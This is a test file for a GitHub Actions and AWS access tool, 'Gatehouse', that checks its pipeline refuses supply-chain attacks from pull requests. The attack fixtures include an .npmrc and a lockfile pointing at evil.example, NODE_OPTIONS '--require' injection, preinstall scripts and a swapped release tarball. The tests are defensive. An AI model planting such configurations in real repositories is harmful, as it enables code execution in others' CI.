/** A repository of YAML and the repository of the tool: the workflows and the action as they are written, and attacks on what runs. */
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { parse } from 'yaml';
import { roleDocuments } from '../../src/doctor/template.ts';
import { enteringWorkflows } from '../../src/doctor/workflows.ts';
import { firstFiles } from '../../src/render/first-files.ts';
import { git } from '../support/github/git.ts';
import { installGh, publishRelease } from '../support/github/releases.ts';
import type { Ended, Job } from '../support/github/runner.ts';
import { addBareRepository, commitTo, runJob } from '../support/github/runner.ts';
import { cloneAs, jobEnvironment } from '../support/github/scenario.ts';
import { fullName } from '../support/github/state.ts';
import type { Claims } from '../support/github/tokens.ts';
import { letsIn } from '../support/github/tokens.ts';
import { ownOfTests } from '../support/run.ts';
import { developers } from './shop.ts';
import { approve, bodyOn, checkOn, mergePull, openSettledStage, proposeEdit } from './stage.ts';
import type { Stage } from './stage.ts';

vi.setConfig({ testTimeout: 240_000, hookTimeout: 240_000 });

const root = join(import.meta.dirname, '../..');
const tool = 'securecart/gatehouse';
const { name, version } = ownOfTests;
const asset = `${name.replace('@', '').replace('/', '-')}-${version}.tgz`;
const group = 'access/groups/developers.yaml';
const more = developers.replace('[Shop-Dev]', '[Shop-Dev, Shop-Production]');
const granted = 'assignment/group:Shop-Developers:Shop-ReadOnly@Shop-Production';

let stage: Stage;
let bare: string;
let commit: string;
let releases: string;
let evil: string;
let evilRan: string;

const fileOf = (path: string): string => readFileSync(join(root, path), 'utf8');
const toolFiles = (): Readonly<Record<string, string>> =>
  Object.fromEntries(
    [
      'package.json',
      '.github/actions/gatehouse/action.yml',
      ...['apply', 'drift', 'fork', 'gatehouse', 'release'].map((file) => `.github/workflows/${file}.yml`),
    ].map((path) => [path, fileOf(path)]),
  );

/** A tarball of the tool that writes a proof of having run. */
const evilTarball = (): string => {
  const dir = mkdtempSync(join(stage.github.state.root, 'evil-'));
  mkdirSync(join(dir, 'package/dist'), { recursive: true });
  writeFileSync(join(dir, 'package/dist/cli.js'), evil);
  execFileSync('tar', ['-czf', join(dir, asset), '-C', dir, 'package']);
  return join(dir, asset);
};

const publish = (file: string, of: string): string =>
  publishRelease(
    releases,
    { repository: tool, tag: `v${version}`, file },
    { repository: tool, workflow: `${tool}/.github/workflows/release.yml`, commit: of, runner: 'github-hosted' },
  );

const beginning = (at: string) =>
  firstFiles({
    repository: fullName(stage.github.repository),
    package: { name, version },
    tool: { repository: tool, commit: at },
  });

/** The four workflows and what else `init` writes, beside the YAML on main. */
const writeWorkflows = async (): Promise<void> => {
  const clone = await cloneAs(stage.github, 'ada');
  await clone.branch('main');
  for (const { path, text } of beginning(commit)) clone.write(path, text);
  await clone.push('Call the workflows of Gatehouse');
};

let packed: string;
beforeAll(async () => {
  stage = await openSettledStage();
  releases = join(stage.github.state.root, 'releases');
  evilRan = join(stage.github.state.root, 'evil-ran');
  evil = `import('node:fs').then((fs) => fs.writeFileSync(${JSON.stringify(evilRan)}, ''))`;
  ({ dir: bare, commit } = await addBareRepository(stage.github.state, tool, toolFiles()));
  execFileSync('npm', ['pack', '--ignore-scripts', '--pack-destination', stage.github.state.root], { cwd: root });
  packed = join(stage.github.state.root, asset);
  const bin = join(stage.github.state.root, 'bin');
  installGh(bin);
  writeFileSync(join(bin, 'npm'), `#!/bin/sh\ntouch ${evilRan}\n`, { mode: 0o755 });
  await writeWorkflows();
});
afterAll(() => stage.close());
beforeEach(() => void publish(packed, commit));

const names = {
  account: '111111111111',
  organization: 'o-shop000000',
  plan: 'gatehouse/GatehousePlan',
  apply: 'gatehouse/GatehouseApply',
  member: 'gatehouse/GatehouseMember',
};

const onMain = (file: string): Promise<string> =>
  git(stage.github.repository.dir, 'show', `main:.github/workflows/${file}`);

/** The roles as the template wrote them when somebody ran it on main. */
const rolesOf = async (also: readonly string[] = []) => {
  const repository = fullName(stage.github.repository);
  const [plan, apply, drift] = await Promise.all(['plan.yml', 'apply.yml', 'drift.yml'].map(onMain));
  const workflows = enteringWorkflows(repository, { plan, apply, drift }, also);
  const origin = {
    repository,
    repositoryId: stage.github.repository.id,
    subjectPrefix: `repo:${repository}`,
    workflows,
  };
  return roleDocuments({ origin, names, ownRoles: 'no roles of its own' });
};

type Called = { readonly repository: string; readonly file: string; readonly ref: string };

/** What the short workflow calls, in the version that GitHub takes: of a pull request its own. */
const calledBy = async (file: string, pull?: number): Promise<Called> => {
  const at = pull === undefined ? 'main' : `refs/pull/${pull}/head`;
  const text = await git(stage.github.repository.dir, 'show', `${at}:.github/workflows/${file}`);
  const { jobs } = parse(text) as { readonly jobs: Readonly<Record<string, { readonly uses?: string }>> };
  const uses = Object.values(jobs)[0]?.uses ?? '';
  const [, repository = '', path = '', ref = ''] =
    /^([\w.-]+\/[\w.-]+)\/\.github\/workflows\/(.+)@(.+)$/.exec(uses) ?? [];
  return { repository, file: path, ref };
};

const tokenOf = ({ repository, file, ref }: Called, pull: number | undefined): Claims => {
  const own = fullName(stage.github.repository);
  const isMain = pull === undefined;
  return {
    aud: 'sts.amazonaws.com',
    sub: `repo:${own}:${isMain ? 'environment:aws-apply' : 'pull_request'}`,
    repository_id: String(stage.github.repository.id),
    job_workflow_ref: `${repository}/.github/workflows/${file}@${ref}`,
    ref: isMain ? 'refs/heads/main' : `refs/pull/${pull}/merge`,
    ...(isMain ? { environment: 'aws-apply' } : {}),
  };
};

const permissions = {
  plan: { contents: 'read', 'pull-requests': 'write', checks: 'write' },
  approvals: { contents: 'read', 'pull-requests': 'read', checks: 'write' },
  apply: { contents: 'read', 'pull-requests': 'write', deployments: 'write', statuses: 'write', actions: 'read' },
} as const;

type Roles = Awaited<ReturnType<typeof rolesOf>>;

/** One job of the called workflow, as Actions would run it for a pull request, or on main without one. */
const run = async (id: keyof typeof permissions, pull?: number, roles?: Roles): Promise<Ended> => {
  const called = await calledBy(id === 'apply' ? 'apply.yml' : 'plan.yml', pull);
  const text = await git(
    join(stage.github.state.root, `${called.repository}.git`),
    'show',
    `${called.ref}:.github/workflows/${called.file}`,
  );
  const { jobs } = parse(text) as { readonly jobs: Readonly<Record<string, { readonly steps: Job['steps'] }>> };
  const trusted = roles ?? (await rolesOf());
  const token = stage.github.jobToken(permissions[id]);
  const job = stage.github.addRun({ event: pull === undefined ? 'push' : 'pull_request', workflow: `${id}.yml` });
  const head = pull === undefined ? '' : await git(stage.github.repository.dir, 'rev-parse', `refs/pull/${pull}/head`);
  return runJob(stage.github.state, {
    steps: jobs[id]?.steps ?? [],
    values: {
      "job.workflow_repository || 'unknown'": called.repository,
      "job.workflow_repository == github.repository && 'main' || job.workflow_sha": called.ref,
      "job.workflow_repository != github.repository && '.github/actions' || ''": '.github/actions',
      'github.event.pull_request.head.sha': head,
      'github.event.pull_request.number': String(pull ?? ''),
      'github.run_id': String(job.id),
      'vars.GATEHOUSE_ACCOUNT': names.account,
      'vars.GATEHOUSE_REGION': 'eu-west-1',
      "inputs.fingerprint == ''": 'true',
      "inputs.fingerprint != ''": 'false',
      'inputs.fingerprint': '',
      'inputs.run': '',
      'github.token': token,
    },
    env: {
      ...jobEnvironment(stage.github, job, token),
      PATH: [join(stage.github.state.root, 'bin'), dirname(process.execPath), process.env['PATH']].join(':'),
      HOME: stage.github.state.root,
      GH_RELEASES: releases,
    },
    besides: [`--sandbox=${stage.aws}`],
    enters: (role) => letsIn(trusted[role.endsWith('Apply') ? 'apply' : 'plan'].trust, tokenOf(called, pull)),
  });
};

describe('a repository of YAML and one of the tool', () => {
  it('plans a pull request, says its approvals, and applies what was merged', async () => {
    const pull = await proposeEdit(stage, 'access', { files: { [group]: more } });
    const planned = await run('plan', pull);
    expect([planned.conclusion, planned.log]).toEqual(['success', expect.stringContaining(version)]);
    expect(bodyOn(stage, pull, 'plan')).toContain('Access grows for');
    expect(await run('approvals', pull)).toMatchObject({ conclusion: 'success' });
    expect(checkOn(stage, 'gatehouse/approvals')).toMatchObject({ conclusion: 'failure' });
    await approve(stage, pull, 'grace');
    await run('approvals', pull);
    expect(checkOn(stage, 'gatehouse/approvals')).toMatchObject({ conclusion: 'success' });
    await mergePull(stage, pull);
    expect(await run('apply')).toMatchObject({ conclusion: 'success' });
    expect(bodyOn(stage, pull, 'apply')).toContain(granted);
    expect(existsSync(evilRan)).toBe(false);
  });
});

const wanted = developers.replace('Writes the shop', 'Writes the shop and its mails');

describe('attacks on what runs', () => {
  const lock = JSON.stringify({
    packages: { '': {}, [`node_modules/${name}`]: { version: '9.9.9', resolved: 'https://evil.example/x.tgz' } },
  });
  const manifest = JSON.stringify({
    type: 'commonjs',
    scripts: { preinstall: 'touch x', build: 'touch x' },
    devDependencies: { [name]: 'file:evil.tgz' },
  });
  it.each<readonly [what: string, files: () => Readonly<Record<string, string>>]>([
    [
      'another version in package.json and its lockfile',
      () => ({ 'package.json': manifest, 'package-lock.json': lock }),
    ],
    [
      '.npmrc',
      () => ({
        '.npmrc': 'registry=https://evil.example/\nnode-options=--require ./evil.cjs\nscript-shell=./evil\n',
        'evil.cjs': evil,
      }),
    ],
    [
      'an action and a tool of its own',
      () => ({
        '.github/actions/gatehouse/action.yml': fileOf('.github/actions/gatehouse/action.yml'),
        'tool/dist/cli.js': evil,
        'gatehouse-release/package/dist/cli.js': evil,
        'src/cli.ts': evil,
      }),
    ],
    [
      'the environment of a job',
      () => ({
        '.env': 'NODE_OPTIONS=--require ./evil.cjs\n',
        '.node-version': '0.1',
        '.tool-versions': 'nodejs 0.1\n',
        GITHUB_ENV: 'NODE_OPTIONS=x\n',
        'evil.cjs': evil,
      }),
    ],
  ])('a pull request brings %s, and none of it runs', async (what, files) => {
    const pull = await proposeEdit(stage, `brings ${what}`.replaceAll(/\W+/g, '-'), {
      files: { [group]: wanted, ...files() },
    });
    const ended = await run('plan', pull);
    expect([ended.conclusion, existsSync(evilRan)]).toEqual(['success', false]);
    expect(ended.log).toContain(version);
    expect(bodyOn(stage, pull, 'plan')).toContain('Critical');
  });

  it.each<readonly [what: string, path: string]>([
    ['dist/', 'dist/cli.js'],
    ['a library that the tool loads', 'node_modules/ajv/dist/2020.js'],
    ['.gatehouse/', '.gatehouse/sandbox.json'],
  ])('a pull request brings %s by force: it does not run, and is refused', async (_what, path) => {
    const branch = `forced-${path.replaceAll(/\W+/g, '-')}`;
    const pull = await proposeEdit(stage, branch, { files: { [path]: evil, '.gitignore': '' } });
    const ended = await run('plan', pull);
    expect([ended.conclusion, existsSync(evilRan)]).toEqual(['failure', false]);
    expect(ended.log).toContain('committed-build');
  });

  it('a pull request calls a commit of a fork under the name of the tool, and AWS lets nobody in', async () => {
    const fork = await commitTo(
      bare,
      { 'package.json': fileOf('package.json').replace('"description": "', '"description": "Evil. ') },
      'refs/pull/9/head',
    );
    const files = Object.fromEntries(
      beginning(fork)
        .filter(({ path }) => path.includes('/workflows/'))
        .map(({ path, text }) => [path, text]),
    );
    const pull = await proposeEdit(stage, 'calls-a-fork', { files });
    const release = await run('plan', pull);
    expect([release.conclusion, release.log]).toEqual(['failure', expect.stringContaining('made of another commit')]);
    publish(packed, fork);
    const { conclusion, log } = await run('plan', pull);
    expect([conclusion, log]).toEqual(['failure', expect.stringContaining('Not authorized to perform')]);
  });

  it('a pull request calls another release of the tool: nobody gets in until somebody has let it in', async () => {
    const next = await commitTo(bare, { 'CHANGELOG.md': 'next' }, 'refs/heads/next');
    publish(packed, next);
    const files = Object.fromEntries(
      beginning(next)
        .filter(({ path }) => path.includes('/workflows/'))
        .map(({ path, text }) => [path, text]),
    );
    const pull = await proposeEdit(stage, 'another-release', { files });
    expect(await run('plan', pull)).toMatchObject({ conclusion: 'failure' });
    expect(await run('plan', pull, await rolesOf([next]))).toMatchObject({ conclusion: 'success' });
    expect(bodyOn(stage, pull, 'plan')).toContain('Critical');
  });

  it('a pull request plans by a workflow of its own, or takes the role of the apply, and AWS lets nobody in', async () => {
    const { plan, apply } = await rolesOf();
    const own = fullName(stage.github.repository);
    const theirs = { repository: own, file: 'plan.yml', ref: 'refs/pull/7/merge' };
    const called = await calledBy('plan.yml');
    expect(letsIn(plan.trust, tokenOf(called, 7))).toBe(true);
    expect(letsIn(plan.trust, tokenOf(theirs, 7))).toBe(false);
    for (const token of [tokenOf(called, 7), tokenOf({ ...called, file: 'apply.yml' }, 7)])
      expect(letsIn(apply.trust, token)).toBe(false);
    const elsewhere = { ...tokenOf(called, 7), repository_id: '1', sub: 'repo:mallory/aws-access:pull_request' };
    expect(letsIn(plan.trust, elsewhere)).toBe(false);
  });

  it('the file of the release was exchanged: its digest is not the one that was attested, and nothing runs', async () => {
    const pull = await proposeEdit(stage, 'exchanged', { files: { [group]: wanted } });
    cpSync(evilTarball(), join(releases, tool, `v${version}`, asset));
    for (const ended of [await run('plan', pull), await run('apply')])
      expect([ended.conclusion, ended.log]).toEqual([
        'failure',
        expect.stringContaining('no attestation of this digest'),
      ]);
    publish(evilTarball(), 'f'.repeat(40));
    expect(await run('plan', pull)).toMatchObject({
      conclusion: 'failure',
      log: expect.stringContaining('made of another commit') as string,
    });
    expect(existsSync(evilRan)).toBe(false);
  });

  it('a merge brings a tool of its own to main: the apply runs the release, and refuses', async () => {
    const pull = await proposeEdit(stage, 'merged', {
      files: { 'dist/cli.js': evil, '.gitignore': '', 'package.json': manifest },
    });
    await approve(stage, pull, 'grace');
    await mergePull(stage, pull);
    const { conclusion, log } = await run('apply');
    expect([conclusion, existsSync(evilRan)]).toEqual(['failure', false]);
    expect(log).toContain('committed-build');
  });
});
